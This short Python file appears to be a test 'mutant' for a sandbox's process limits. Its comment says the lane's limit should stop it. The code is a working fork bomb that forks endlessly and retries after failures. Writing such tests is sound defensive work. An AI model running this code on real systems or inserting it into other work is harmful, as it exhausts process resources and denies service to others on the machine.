# Mutant: a fork bomb (the lane's process limit stops it; nothing else may notice).
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
